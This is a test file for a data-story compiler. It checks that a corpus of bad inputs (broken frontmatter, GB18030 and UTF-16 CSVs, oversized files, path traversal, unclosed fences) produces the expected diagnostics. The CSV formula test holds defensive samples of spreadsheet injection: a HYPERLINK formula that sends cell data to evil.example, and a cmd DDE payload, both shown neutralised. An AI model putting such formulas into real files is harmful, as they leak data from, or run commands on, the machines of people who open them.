/**
 * The bad-input corpus (tests/bad-inputs/, see its README), checked in-process: every case, compiled
 * as a project of its own, reports exactly its expected diagnostics and never throws. A few cases get
 * checks beyond the list: what is read anyway (GB18030, BOM), what must never be read (a huge file),
 * and what must still work (the chart of an unclosed block). tests/build/bad-inputs.test.ts runs the
 * same corpus through the real CLI.
 */
import { mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { compileStory } from "../../src/engine/compile-story.ts";
import type { DataFileSource } from "../../src/engine/data/data-file-source.ts";
import { nodeDataFiles } from "../../src/engine/data/node-data-files.ts";
import { MAX_DATA_BYTES, MAX_STORY_BYTES } from "../../src/engine/limits.ts";
import { rasterizeSvg, type Rasterizer } from "../../src/engine/image/rasterize-svg.ts";
import { compileProject, compileProjectAsync } from "../../src/engine/project/compile-project.ts";
import { readStoryFile } from "../../src/engine/project/read-story-file.ts";
import { addCase, readCases, type BadInputCase } from "../bad-inputs/corpus.ts";
import { inlineSvgs } from "../support/inline-svgs.ts";
import { xmlProblem } from "../support/strict-xml.ts";

const cases = readCases();
const roots: string[] = [];
afterAll(() => {
  for (const root of roots) rmSync(root, { recursive: true, force: true });
});

/** A fresh project holding one case. */
function projectWith(c: BadInputCase): string {
  const root = mkdtempSync(join(tmpdir(), `plotline-bad-${c.name}-`));
  roots.push(root);
  addCase(root, c);
  return root;
}

/** Makes an empty file and returns its path. */
const openAndClose = (path: string): string => (writeFileSync(path, ""), path);

const caseNamed = (name: string): BadInputCase => {
  const found = cases.find((c) => c.name === name);
  if (!found) throw new Error(`no bad-input case ${name}`);
  return found;
};

describe("the bad-input corpus", () => {
  it("has every kind of case the issue lists", () => {
    expect(cases.map((c) => c.name)).toEqual(
      expect.arrayContaining([
        "frontmatter-yaml-syntax", "frontmatter-wrong-types", "frontmatter-unclosed", "frontmatter-missing",
        "unclosed-data-fence", "unclosed-plot-fence", "plot-yaml-syntax", "csv-ragged-rows", "csv-gb18030",
        "csv-utf8-bom", "csv-utf16", "data-empty", "data-file-too-large", "duplicate-ids", "missing-references",
        "src-not-a-file", "src-path-traversal", "plot-option-types", "html-in-data", "large-inline-block", "data-not-text",
        "public-link-outside", "story-files-not-built",
        "csv-formula-cells", "raw-html-swallows-chart", "unsafe-addresses", "external-pictures", "date-format-on-number",
        "inline-block-too-large", "story-too-large", "blockquote-too-deep", "list-too-deep", "frontmatter-huge-value", "yaml-nested-too-deep",
      ]),
    );
  });
});

describe.each(cases)("bad input $name", (c) => {
  it("compiles without throwing and reports exactly the expected diagnostics, at their files, lines and columns", async () => {
    // As the build compiles: SQL blocks run.
    const project = await compileProjectAsync(projectWith(c));
    const actual = project.diagnostics.map((d) => {
      const expected = c.diagnostics.find((e) => e.code === d.code && e.line === d.span.start.line && e.column === d.span.start.column);
      return {
        code: d.code,
        severity: d.severity,
        file: d.span.file,
        line: d.span.start.line,
        column: d.span.start.column,
        ...(expected?.message !== undefined ? { message: d.message } : {}),
      };
    });
    expect(actual).toEqual(c.diagnostics);
    for (const d of project.diagnostics) {
      expect(d.hint.length, `${d.code} has a hint`).toBeGreaterThan(0);
      expect(d.message).not.toMatch(/\bat .+:\d+:\d+\)?$|Error:|undefined|\[object /);
    }
  });
});

describe("bad inputs read anyway", () => {
  it("a UTF-8 story and data file with a BOM and CRLF compile exactly like the same files without them", () => {
    const c = caseNamed("csv-utf8-bom");
    const root = projectWith(c);
    const withBom = compileProject(root).stories[0]!;
    const plain = (path: string) => readFileSync(join(root, path), "utf8").replace(/^\uFEFF/, "").replace(/\r\n/g, "\n");
    expect(readFileSync(join(root, c.story))[0]).toBe(0xef);
    writeFileSync(join(root, c.story), plain(c.story));
    writeFileSync(join(root, "data", "bom-cities.csv"), plain("data/bom-cities.csv"));
    const without = compileProject(root).stories[0]!;
    expect(withBom.diagnostics).toEqual([]);
    expect(withBom.html).toBe(without.html);
    expect(withBom.charts.map((chart) => chart.chartMarkup)).toEqual(without.charts.map((chart) => chart.chartMarkup));
    expect(withBom.html).toContain("Shenzhen");
  });

  it("a GB18030 CSV from Chinese Excel is decoded: its Chinese cells reach the table and the chart", () => {
    const story = compileProject(projectWith(caseNamed("csv-gb18030"))).stories[0]!;
    expect(story.charts).toHaveLength(1);
    expect(story.charts[0]!.chartMarkup).toContain("北京");
    expect(story.charts[0]!.chartMarkup).toContain("杭州");
    expect(story.html).toContain("电商之都（阿里巴巴）");
    expect(story.html).toContain("“魔都”");
    expect(story.html).not.toContain("\uFFFD");
  });

  it("UTF-16 files are decoded, with and without a byte-order mark", () => {
    const story = compileProject(projectWith(caseNamed("csv-utf16"))).stories[0]!;
    expect(story.charts).toHaveLength(1);
    expect(story.charts[0]!.chartMarkup).toContain("北京");
  });

  it("a chart in a large inline block still draws, the warning notwithstanding", () => {
    const story = compileProject(projectWith(caseNamed("large-inline-block"))).stories[0]!;
    expect(story.ok).toBe(true);
    expect(story.charts).toHaveLength(1);
  });
});

describe("markup and control characters in what charts draw", () => {
  /** The case's story compiled with a real rasterizer that keeps every SVG it was given (chart downloads, social card). */
  const drawnStory = (name: string) => {
    const c = caseNamed(name);
    const root = projectWith(c);
    const drawn: string[] = [];
    const rasterize: Rasterizer = (svg, options) => (drawn.push(svg), rasterizeSvg(svg, options));
    const story = compileStory({ path: c.story, text: readFileSync(join(root, c.story), "utf8") }, { dataFiles: nodeDataFiles(join(root, "data")), rasterize, chartPngs: true });
    return { story, drawn };
  };

  it.each(["markup-characters-in-charts", "csv-control-characters", "story-control-characters"])(
    "%s: every inline chart SVG, download SVG and social card is well-formed XML, and resvg draws the PNGs",
    (name) => {
      const { story, drawn } = drawnStory(name);
      expect(story.ok).toBe(true);
      expect(story.charts.length).toBeGreaterThan(0);
      for (const chart of story.charts) {
        const inline = inlineSvgs(chart.html);
        expect(inline.length).toBeGreaterThanOrEqual(2);
        for (const svg of inline) expect(xmlProblem(svg), `${chart.id}: ${svg.slice(0, 80)}`).toBeUndefined();
        expect(xmlProblem(chart.svg!.content as string)).toBeUndefined();
        expect(chart.png?.content).toBeInstanceOf(Uint8Array);
      }
      // One PNG per chart, and the social card.
      expect(drawn).toHaveLength(story.charts.length + 1);
      for (const svg of drawn) expect(xmlProblem(svg)).toBeUndefined();
      expect(story.socialCard?.path).toBe(`_plotline/cards/${name}.png`);
    },
  );

  it("what the editor typed is drawn as typed: & < > and quotes in links, labels, fonts and captions", () => {
    const { story } = drawnStory("markup-characters-in-charts");
    const markup = story.charts[0]!.chartMarkup;
    expect(markup).toContain('href="https://example.com/firm?name=AT&amp;T&amp;lang=en"');
    expect(markup).toContain('font-family="Arial &amp; Helvetica, &quot;Noto Sans&quot;, &lt;serif&gt;"');
    expect(markup).toContain("Procter &amp; Gamble &lt;P&amp;G&gt;");
    expect(markup).toContain("Ben &amp; Jerry's &quot;Scoops&quot;");
    const download = story.charts[0]!.svg!.content as string;
    expect(download).toContain("<title>Pay &amp; perks at &quot;big&quot; &lt;tech&gt; firms</title>");
    expect(download).toContain("Levels &amp; Co. &quot;Pay &lt;report&gt;&quot;");
  });

  it("control characters in a CSV and a story are drawn as spaces; those written as YAML escapes are left out", () => {
    const csv = drawnStory("csv-control-characters").story.charts[0]!.chartMarkup;
    expect(csv).toContain("Head office second line");
    expect(csv).toContain("Opened  2021");
    const { story } = drawnStory("story-control-characters");
    expect(story.frontmatter?.title).toBe("Pay  & perks");
    expect(story.frontmatter?.dek).toBe("A dek with an escaped  vertical tab.");
    expect(story.charts[0]!.chartMarkup).toContain("Beijing North");
    expect(story.charts[0]!.svg!.content).toContain("Escaped  in YAML: dropped");
    expect(story.charts[0]!.svg!.content).toMatch(/Salary +by city/);
  });
});

describe("data a spreadsheet would run", () => {
  it("reaches the chart's CSV download with every formula-like cell and name neutralised, numbers as numbers", () => {
    const story = compileProject(projectWith(caseNamed("csv-formula-cells"))).stories[0]!;
    const csv = story.assets.find((a) => a.path === "_plotline/data/csv-formula-cells/formula-cells.csv")?.content;
    expect(csv).toBe(
      "\uFEFFfirm,change,\"'@note\"\n" +
        "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Alibaba\"\")\",-5,\"'@SUM(A1:A9)\"\n" +
        "Tencent,12,\"'=1+1\"\n" +
        "\"'-Baidu\",3,\"'+cmd|' /C calc'!A0\"\n" +
        "ByteDance,0,\"'-x\"\n",
    );
  });
});

describe("raw HTML that swallows a chart", () => {
  it("is reported, and the chart it would have hidden is still compiled and checked", () => {
    const story = compileProject(projectWith(caseNamed("raw-html-swallows-chart"))).stories[0]!;
    expect(story.ok).toBe(false);
    expect(story.charts.map((chart) => chart.id)).toEqual(["degrees"]);
  });
});

describe("bad inputs that are not read", () => {
  it("a 50 MB data file is refused from its size, without reading it", () => {
    const c = caseNamed("data-file-too-large");
    const root = projectWith(c);
    const disk = nodeDataFiles(join(root, "data"));
    expect(disk.lookup?.("registrations.csv")).toEqual({ kind: "file", size: 50 * 1024 * 1024 + "year,region,count\n".length });
    let reads = 0;
    const watched: DataFileSource = { ...disk, read: (path) => (reads++, disk.read(path)) };
    const story = compileStory({ path: c.story, text: readFileSync(join(root, c.story), "utf8") }, { dataFiles: watched });
    expect(story.diagnostics.map((d) => d.code)).toEqual(["data/too-large"]);
    expect(reads).toBe(0);
  });

  it("a file just over the limit is refused; one at the limit is read", () => {
    const c = caseNamed("data-file-too-large");
    const text = readFileSync(join(c.dir, c.story), "utf8");
    const sized = (size: number): DataFileSource => ({
      displayRoot: "data",
      lookup: () => ({ kind: "file", size }),
      read: () => new TextEncoder().encode("year,count\n2024,1\n"),
      list: () => ["registrations.csv"],
    });
    const codes = (size: number) => compileStory({ path: c.story, text }, { dataFiles: sized(size) }).diagnostics.map((d) => d.code);
    expect(codes(MAX_DATA_BYTES + 1)).toEqual(["data/too-large"]);
    expect(codes(MAX_DATA_BYTES)).toEqual([]);
  });

  it("an inline block is held to the same limit as a file: at the limit it is read, a byte over it is refused at its fence", () => {
    // One column, one row of a long cell: the body is exactly `bytes` long and quick to parse.
    const story = (bytes: number) => `---\ntitle: T\ndek: D\ndate: 2025-03-21\n---\n\n\`\`\`data id=big\nv\n${"x".repeat(bytes - 2)}\n\`\`\`\n`;
    const codes = (bytes: number) => compileStory({ path: "content/stories/big.md", text: story(bytes) }, { dataFiles: nodeDataFiles("/nonexistent") }).diagnostics.map((d) => `${d.code} ${d.span.start.line}`);
    expect(codes(MAX_DATA_BYTES)).toEqual(["data/large-inline-block 7"]);
    expect(codes(MAX_DATA_BYTES + 1)).toEqual(["data/too-large 7"]);
  });

  it("a story file over the limit is known from its size on disk and not read; one at the limit is read", () => {
    const root = mkdtempSync(join(tmpdir(), "plotline-story-size-"));
    roots.push(root);
    const path = join(root, "big.md");
    // Sparse files: nothing is written, only the size is set.
    truncateSync(openAndClose(path), MAX_STORY_BYTES + 1);
    expect(readStoryFile(path, "content/stories/big.md")).toEqual({ path: "content/stories/big.md", text: "", tooLarge: MAX_STORY_BYTES + 1 });
    truncateSync(path, MAX_STORY_BYTES);
    const atLimit = readStoryFile(path, "content/stories/big.md");
    expect(atLimit.tooLarge).toBeUndefined();
    expect(atLimit.text.length).toBeGreaterThan(0);
  });

  it("nothing outside data/ is read, whatever src= says", () => {
    const c = caseNamed("src-path-traversal");
    const root = projectWith(c);
    const disk = nodeDataFiles(join(root, "data"));
    const read: string[] = [];
    const watched: DataFileSource = { ...disk, read: (path) => (read.push(path), disk.read(path)) };
    const story = compileStory({ path: c.story, text: readFileSync(join(root, c.story), "utf8") }, { dataFiles: watched });
    expect(story.diagnostics).toHaveLength(c.diagnostics.length);
    expect(read).toEqual([]);
  });
});

describe("unclosed blocks", () => {
  it("an unclosed chart block still checks and draws its own lines, and the error says how far it runs", () => {
    const story = compileProject(projectWith(caseNamed("unclosed-plot-fence"))).stories[0]!;
    expect(story.diagnostics.map((d) => d.code)).toEqual(["block/unclosed-fence"]);
    expect(story.charts).toHaveLength(1);
    expect(story.diagnostics[0]!.hint).toBe("Add a line with just ``` after line 18, where the block's chart spec ends.");
  });

  it("a data block that swallows the next chart names the chart's line, and hints where to close it", () => {
    const story = compileProject(projectWith(caseNamed("unclosed-data-fence"))).stories[0]!;
    expect(story.diagnostics[0]!.hint).toBe("Add a line with just ``` after line 11, where the block's data ends.");
  });
});
